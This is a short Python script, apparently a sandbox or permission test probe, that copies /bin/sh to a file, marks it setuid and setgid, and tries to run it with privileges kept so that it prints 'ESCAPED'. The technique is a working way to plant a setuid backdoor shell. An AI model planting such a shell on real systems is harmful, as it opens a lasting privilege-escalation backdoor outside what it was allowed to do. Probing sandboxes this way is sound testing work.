"""Tries to plant a program that gives its owner's rights to whoever starts it."""

import os
import stat

with open("planted", "wb") as file:
    file.write(open("/bin/sh", "rb").read())
os.chmod("planted", 0o6755)
try:
    os.execv("planted", ["sh", "-pc", "echo ESCAPED"])
except OSError as error:
    print(error)
print(stat.filemode(os.stat("planted").st_mode))
